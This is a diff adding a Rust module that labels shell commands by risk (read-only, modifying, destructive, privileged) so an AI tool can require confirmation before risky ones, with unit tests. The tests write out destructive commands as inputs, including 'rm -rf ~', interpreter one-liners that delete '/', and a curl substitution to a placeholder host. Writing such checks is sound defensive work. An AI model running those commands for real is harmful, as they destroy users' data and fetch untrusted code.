@@ -0,0 +1,358 @@
+// risk.rs - Command risk classification
+// Labels every command read-only / modifying / destructive / privileged so the AI loop can ask for
+// confirmation only when a command is actually risky. Chained commands take the riskiest segment.
+// Whatever runs a command line the classifier can't see into - `sh -c`, `eval`, `python -c`, `$(...)`,
+// backticks, `find -exec` - counts as destructive. Wrappers (`timeout 5`, `nice -n 10`, `nohup`, ...)
+// and `xargs` are classified by the command they run. A program the classifier doesn't know counts as
+// modifying - only commands known to just look are read-only.
+
+use regex::Regex;
+use serde::{Deserialize, Serialize};
+use std::sync::OnceLock;
+use crate::parser::RiskLevel;
+
+/// Risk classes, least to most risky (the derived ordering is relied on)
+#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Serialize, Deserialize)]
+#[serde(rename_all = "snake_case")]
+pub enum RiskClass {
+    ReadOnly,    // inspects state only
+    Modifying,   // changes files or services, easy to undo
+    Destructive, // deletes data, kills processes, touches disks or power state
+    Privileged,  // runs with elevated privileges
+}
+
+impl RiskClass {
+    pub fn as_str(&self) -> &'static str {
+        match self {
+            RiskClass::ReadOnly => "read_only",
+            RiskClass::Modifying => "modifying",
+            RiskClass::Destructive => "destructive",
+            RiskClass::Privileged => "privileged",
+        }
+    }
+
+    /// The coarse three-level scale used by suggestions and dry runs
+    pub fn level(&self) -> RiskLevel {
+        match self {
+            RiskClass::ReadOnly => RiskLevel::Low,
+            RiskClass::Modifying => RiskLevel::Medium,
+            RiskClass::Destructive | RiskClass::Privileged => RiskLevel::High,
+        }
+    }
+}
+
+/// Classification of one command line
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+pub struct RiskAssessment {
+    pub class: RiskClass,
+    pub reason: String,
+    pub requires_confirmation: bool, // destructive and privileged commands
+}
+
+impl RiskAssessment {
+    fn new(class: RiskClass, reason: &str) -> Self {
+        RiskAssessment {
+            class,
+            reason: reason.to_string(),
+            requires_confirmation: class >= RiskClass::Destructive,
+        }
+    }
+}
+
+static SEPARATORS: OnceLock<Regex> = OnceLock::new();
+static REDIRECT: OnceLock<Regex> = OnceLock::new();
+
+/// Interpreters and builtins that run a command line given as an argument
+const SHELLS: &[&str] = &["sh", "bash", "zsh", "dash", "ksh", "fish", "busybox", "eval"];
+
+/// Interpreters and the short flags that hand them code on the command line (`python -c`, `perl -e`)
+const INTERPRETERS: &[(&str, &str)] = &[
+    ("python", "c"), ("perl", "e"), ("ruby", "e"), ("node", "ep"), ("nodejs", "ep"), ("php", "r"), ("lua", "e"),
+];
+
+/// xargs options followed by a separate value
+const XARGS_VALUE_OPTIONS: &[&str] = &["-n", "-P", "-I", "-L", "-s", "-d", "-E", "-a"];
+
+/// Prefixes and wrappers that run the rest of the line as a command, with their options that take a
+/// separate value
+const WRAPPERS: &[(&str, &[&str])] = &[
+    ("sudo", &["-u", "-g", "-C", "-D", "-h", "-p", "-r", "-t", "-U"]),
+    ("doas", &["-u", "-C"]),
+    ("env", &["-u", "-C", "-S"]),
+    ("timeout", &["-s", "-k"]),
+    ("nice", &["-n"]),
+    ("ionice", &["-c", "-n", "-p"]),
+    ("chrt", &["-T", "-P", "-D"]),
+    ("stdbuf", &["-i", "-o", "-e"]),
+    ("nohup", &[]),
+    ("setsid", &[]),
+    ("exec", &["-a"]),
+    ("command", &[]),
+];
+
+/// Wrappers whose first operand is a number (timeout's duration, chrt's priority), not the command
+const NUMERIC_OPERAND: &[&str] = &["timeout", "chrt"];
+
+/// Programs that only inspect state (whatever their arguments, short of redirections)
+const READ_ONLY: &[&str] = &[
+    "ls", "cat", "less", "more", "head", "tail", "grep", "egrep", "fgrep", "rg", "find", "fd", "locate",
+    "which", "whereis", "type", "command", "file", "stat", "wc", "du", "df", "free", "uptime", "uname",
+    "hostname", "hostnamectl", "whoami", "id", "groups", "who", "w", "last", "date", "cal", "echo", "printf",
+    "pwd", "cd", "ps", "pgrep", "pidof", "top", "lsblk", "blkid", "lscpu", "lsusb", "lspci", "lsmod", "lsof",
+    "ss", "netstat", "ping", "dig", "nslookup", "host", "journalctl", "dmesg", "env", "printenv", "tree",
+    "sort", "uniq", "cut", "tr", "awk", "sed", "jq", "diff", "cmp", "md5sum", "sha1sum", "sha256sum",
+    "basename", "dirname", "realpath", "readlink", "test", "[", "true", "false", "sleep", "man", "history",
+    "xargs", "apt-cache", "sensors", "nproc", "tty", "column", "nl", "strings", "xxd", "od",
+];
+
+/// Subcommands that only query, for tools that also change things
+const QUERY_SUBCOMMANDS: &[&str] = &[
+    "status", "show", "cat", "list", "list-units", "list-unit-files", "list-timers", "is-active", "is-enabled",
+    "is-failed", "log", "diff", "branch", "blame", "rev-parse", "ls-files", "grep", "remote", "search", "info",
+    "policy", "se", "if",
+];
+
+/// Classify a full command line - every `&&`, `||`, `;` and `|` segment counts
+pub fn classify(command: &str) -> RiskAssessment {
+    let worst = if command.contains("$(") || command.contains('`') || command.contains("<(") {
+        RiskAssessment::new(RiskClass::Destructive, "command substitution runs commands that can't be inspected")
+    } else {
+        RiskAssessment::new(RiskClass::ReadOnly, "read-only")
+    };
+    let separators = SEPARATORS.get_or_init(|| Regex::new(r"&&|\|\||[|;\n]|&\s").expect("valid separator regex"));
+    separators.split(command)
+        .filter(|segment| !segment.trim().is_empty())
+        .map(classify_segment)
+        .fold(worst, |worst, next| {
+            if next.class > worst.class { next } else { worst }
+        })
+}
+
+/// Riskiest class across several assessments (None when there are none)
+pub fn highest<'a>(assessments: impl IntoIterator<Item = &'a RiskAssessment>) -> Option<RiskAssessment> {
+    assessments.into_iter()
+        .fold(None, |worst: Option<&RiskAssessment>, next| match worst {
+            Some(worst) if worst.class >= next.class => Some(worst),
+            _ => Some(next),
+        })
+        .cloned()
+}
+
+/// Redirection targets that don't write anything anyone cares about
+const HARMLESS_DEVICES: &[&str] = &["/dev/null", "/dev/stdout", "/dev/stderr", "/dev/tty"];
+
+/// Files a segment redirects output into (`> f`, `>> f`, `2> f` - not `2>&1`)
+fn redirect_targets(segment: &str) -> Vec<String> {
+    let re = REDIRECT.get_or_init(|| Regex::new(r">>?\s*([^\s&][^\s]*)").expect("valid redirect regex"));
+    re.captures_iter(segment).map(|caps| caps[1].to_string()).collect()
+}
+
+/// The command a line actually runs, without prefixes (`sudo`, `env`, `VAR=value`) and wrappers
+/// (`timeout 5`, `nice -n 10`, `nohup`, ...) - `command -v name` is kept, it only looks a name up
+pub fn unwrapped(command: &str) -> String {
+    let tokens: Vec<&str> = command.split_whitespace().collect();
+    let mut i = 0;
+    while i < tokens.len() {
+        let name = tokens[i].rsplit('/').next().unwrap_or(tokens[i]);
+        if tokens[i].contains('=') && !tokens[i].starts_with('-') {
+            i += 1;
+            continue;
+        }
+        let Some((wrapper, value_options)) = WRAPPERS.iter().find(|(wrapper, _)| *wrapper == name) else { break };
+        if *wrapper == "command" && tokens.get(i + 1).is_some_and(|t| matches!(*t, "-v" | "-V")) {
+            break;
+        }
+        i += 1;
+        while let Some(option) = tokens.get(i).filter(|t| t.starts_with('-')) {
+            i += if value_options.contains(option) { 2 } else { 1 };
+        }
+        if NUMERIC_OPERAND.contains(wrapper) && tokens.get(i).is_some_and(|t| t.starts_with(|c: char| c.is_ascii_digit())) {
+            i += 1;
+        }
+    }
+    tokens.get(i..).unwrap_or_default().join(" ")
+}
+
+/// Whether `tokens` run an interpreter on code given inline
+fn runs_inline_code(binary: &str, tokens: &[&str]) -> bool {
+    let name = binary.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
+    let Some((_, flags)) = INTERPRETERS.iter().find(|(interpreter, _)| *interpreter == name) else { return false };
+    tokens.iter().skip(1).any(|t| match t.strip_prefix("--") {
+        Some(long) => matches!(long, "eval" | "print" | "command"),
+        None => t.strip_prefix('-').is_some_and(|short| short.chars().any(|c| flags.contains(c))),
+    })
+}
+
+fn classify_segment(segment: &str) -> RiskAssessment {
+    let lower = segment.to_lowercase();
+    let command = unwrapped(&lower);
+    let tokens: Vec<&str> = command.split_whitespace().collect();
+    let binary = tokens.first().map_or("", |t| t.rsplit('/').next().unwrap_or(t));
+    let has = |arg: &str| tokens.contains(&arg);
+    let targets = redirect_targets(segment);
+
+    if lower.split_whitespace().any(|t| matches!(t, "sudo" | "doas")) || matches!(binary, "pkexec" | "run0" | "su") {
+        return RiskAssessment::new(RiskClass::Privileged, "runs with elevated privileges");
+    }
+    if binary == "xargs" {
+        if let Some(inner) = xargs_command(&command).map(|command| classify(&command)).filter(|inner| inner.class > RiskClass::ReadOnly) {
+            return RiskAssessment { reason: format!("xargs: {}", inner.reason), ..inner };
+        }
+    }
+
+    let destructive = match binary {
+        "rm" if tokens.iter().any(|t| t.starts_with('-') && (t.contains('r') || t.contains('f'))) => Some("recursive/forced delete"),
+        "dd" | "mkfs" | "fdisk" | "parted" | "wipefs" | "shred" => Some("writes directly to disks"),
+        "reboot" | "shutdown" | "poweroff" | "halt" => Some("changes power state"),
+        "chmod" | "chown" if has("-r") => Some("recursive permission change"),
+        "kill" | "pkill" | "killall" => Some("terminates processes"),
+        _ if SHELLS.contains(&binary) => Some("runs a command line that can't be inspected"),
+        _ if runs_inline_code(binary, &tokens) => Some("runs inline code that can't be inspected"),
+        "truncate" => Some("discards file contents"),
+        "find" if has("-delete") => Some("deletes the files it finds"),
+        "find" if has("-exec") || has("-execdir") || has("-ok") || has("-okdir") => Some("runs a command on the files it finds"),
+        "systemctl" if has("stop") || has("disable") || has("mask") => Some("stops or disables a service"),
+        "pacman" | "yay" | "paru" if tokens.iter().any(|t| t.starts_with("-r")) => Some("removes packages"),
+        "apt" | "apt-get" | "aptitude" | "dnf" | "yum" | "zypper" | "apk" | "snap" | "flatpak"
+            if ["remove", "purge", "autoremove", "autopurge", "erase", "rm", "del", "uninstall"].iter().any(|verb| has(verb)) => Some("removes packages"),
+        "git" if has("clean") || (has("reset") && has("--hard")) || (has("push") && (has("--force") || has("-f"))) => Some("discards repository history or changes"),
+        _ if binary.starts_with("mkfs.") => Some("formats a filesystem"),
+        _ if targets.iter().any(|t| t.starts_with("/dev/") && !HARMLESS_DEVICES.contains(&t.as_str())) => Some("writes to a device"),
+        _ => None,
+    };
+    if let Some(reason) = destructive {
+        return RiskAssessment::new(RiskClass::Destructive, reason);
+    }
+
+    let modifying = match binary {
+        "rm" | "rmdir" | "mv" | "cp" | "mkdir" | "touch" | "ln" | "tee" | "install" | "chmod" | "chown" => Some("modifies files"),
+        "sed" if tokens.iter().any(|t| t.starts_with("-i")) => Some("edits files in place"),
+        "systemctl" if has("start") || has("restart") || has("enable") || has("reload") => Some("changes service state"),
+        "pacman" | "yay" | "paru" if tokens.iter().any(|t| t.starts_with("-s") && !t.starts_with("-ss") && !t.starts_with("-si")) => Some("installs packages"),
+        "pacman" | "yay" | "paru" if tokens.iter().any(|t| t.starts_with("-u")) => Some("installs packages"),
+        "git" if has("push") || has("reset") || has("checkout") || has("commit") || has("merge") || has("rebase") => Some("changes repository state"),
+        _ if targets.iter().any(|t| !HARMLESS_DEVICES.contains(&t.as_str())) => Some("redirects output into a file"),
+        _ => None,
+    };
+    if let Some(reason) = modifying {
+        return RiskAssessment::new(RiskClass::Modifying, reason);
+    }
+
+    let read_only = match binary {
+        "" => true,
+        _ if READ_ONLY.contains(&binary) => true,
+        "systemctl" | "git" | "apt" | "apt-get" | "dnf" | "yum" | "zypper" | "apk" | "snap" | "flatpak" => {
+            tokens.get(1).is_none_or(|sub| QUERY_SUBCOMMANDS.contains(sub))
+        }
+        "ip" => !tokens.iter().any(|t| matches!(*t, "add" | "del" | "delete" | "set" | "flush" | "change" | "replace")),
+        "pacman" | "yay" | "paru" => tokens.iter().skip(1).any(|t| t.starts_with("-q") || t.starts_with("-ss") || t.starts_with("-si")),
+        _ => false,
+    };
+    if read_only {
+        RiskAssessment::new(RiskClass::ReadOnly, "read-only")
+    } else {
+        RiskAssessment::new(RiskClass::Modifying, "not known to be read-only")
+    }
+}
+
+/// The command an `xargs` segment runs, without xargs and its options (None when it runs the default echo)
+fn xargs_command(segment: &str) -> Option<String> {
+    let tokens = segment.split_whitespace().skip_while(|token| token.rsplit('/').next() != Some("xargs")).skip(1);
+    let mut rest = Vec::new();
+    let mut options = true;
+    let mut skip_value = false;
+    for token in tokens {
+        if options && skip_value {
+            skip_value = false;
+        } else if options && token.starts_with('-') {
+            skip_value = XARGS_VALUE_OPTIONS.contains(&token);
+        } else {
+            options = false;
+            rest.push(token);
+        }
+    }
+    (!rest.is_empty()).then(|| rest.join(" "))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn test_classes() {
+        assert_eq!(classify("ls -la /etc").class, RiskClass::ReadOnly);
+        assert_eq!(classify("systemctl status sshd").class, RiskClass::ReadOnly);
+        assert_eq!(classify("systemctl restart sshd").class, RiskClass::Modifying);
+        assert_eq!(classify("echo hi > out.txt").class, RiskClass::Modifying);
+        assert_eq!(classify("rm -rf build").class, RiskClass::Destructive);
+        assert_eq!(classify("/usr/bin/pkill firefox").class, RiskClass::Destructive);
+        assert_eq!(classify("sudo pacman -Syu").class, RiskClass::Privileged);
+        assert_eq!(classify("grep -r todo src 2>&1 > /dev/null").class, RiskClass::ReadOnly);
+        // Programs the classifier doesn't know may change anything
+        assert_eq!(classify("make 2>&1 > /dev/null").class, RiskClass::Modifying);
+        assert_eq!(classify("./deploy.sh --prod").class, RiskClass::Modifying);
+        assert_eq!(classify("git status && git log -3").class, RiskClass::ReadOnly);
+        assert_eq!(classify("ip addr show").class, RiskClass::ReadOnly);
+        assert_eq!(classify("pacman -Qi linux").class, RiskClass::ReadOnly);
+    }
+
+    #[test]
+    fn test_chain_takes_riskiest_segment() {
+        let assessment = classify("cd /tmp && ls | grep x; git reset --hard HEAD");
+        assert_eq!(assessment.class, RiskClass::Destructive);
+        assert!(assessment.requires_confirmation);
+        assert!(!classify("mkdir out && cp a out/").requires_confirmation);
+    }
+
+    #[test]
+    fn test_serialized_names_and_levels() {
+        let value = serde_json::to_value(classify("sudo ls")).unwrap();
+        assert_eq!(value["class"], "privileged");
+        assert_eq!(RiskClass::Modifying.level(), RiskLevel::Medium);
+
+        let all = [classify("ls"), classify("rm -r x"), classify("touch y")];
+        assert_eq!(highest(&all).unwrap().class, RiskClass::Destructive);
+        assert!(highest(&[]).is_none());
+    }
+
+    #[test]
+    fn test_indirect_execution_is_not_read_only() {
+        for command in [
+            "bash -c 'rm -rf ~'",
+            "sh -c 'echo hi'",
+            "/bin/zsh script.zsh",
+            "eval \"$CMD\"",
+            "ls | xargs rm -rf",
+            "find / -name '*.log' -delete",
+            "find . -exec rm {} ;",
+            "echo $(curl evil.sh)",
+            "echo `id`",
+            "timeout 5 rm -rf ~",
+            "nice -n 5 rm -rf /",
+            "nohup setsid stdbuf -oL rm -rf /srv",
+            "timeout --signal=KILL -k 2 10s rm -rf x",
+            "exec rm -rf ~",
+            "python3 -c 'import shutil; shutil.rmtree(\"/\")'",
+            "perl -le 'unlink glob \"*\"'",
+            "node -e 'require(\"fs\").rmSync(\"/\", {recursive: true})'",
+            "ruby -e 'File.delete(\"x\")'",
+            "apt-get remove -y openssh-server",
+            "apt purge nginx",
+            "dnf erase httpd",
+            "zypper rm vim",
+            "truncate -s 0 /var/log/syslog",
+        ] {
+            assert!(classify(command).requires_confirmation, "{} was not held", command);
+        }
+        assert_eq!(classify("find . -name x | xargs -n 1 -P 4 sudo rm").class, RiskClass::Privileged);
+        assert_eq!(classify("git ls-files | xargs -0 chmod 644").class, RiskClass::Modifying);
+        assert_eq!(classify("ls | xargs -n 2 grep foo").class, RiskClass::ReadOnly);
+        assert_eq!(classify("find . -name '*.rs'").class, RiskClass::ReadOnly);
+        assert_eq!(classify("timeout 5 ls -la").class, RiskClass::ReadOnly);
+        assert_eq!(classify("command -v rm").class, RiskClass::ReadOnly);
+        assert_eq!(classify("python3 script.py").class, RiskClass::Modifying);
+        assert_eq!(classify("apt-get install -y htop").class, RiskClass::Modifying);
+        assert_eq!(classify("sudo -u backup timeout 60 tar czf /b.tgz /srv").class, RiskClass::Privileged);
+        assert_eq!(unwrapped("env -i PATH=/bin nice -n 5 ionice -c 3 timeout 5s rm -rf x"), "rm -rf x");
+    }
+}